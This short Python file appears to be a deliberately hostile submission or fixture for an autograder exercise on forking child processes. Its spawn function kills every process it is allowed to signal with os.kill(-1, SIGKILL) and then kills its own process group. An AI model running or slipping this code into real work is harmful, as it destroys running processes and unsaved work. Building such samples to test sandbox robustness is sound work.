"""Kills every process that it may kill.

exercise: 10_fork_children
points: 0
codes: C401, C402
checks: every_child_ends
"""

import os
import signal


def introduce():
    return None


def spawn(n):
    os.kill(-1, signal.SIGKILL)
    os.killpg(0, signal.SIGKILL)
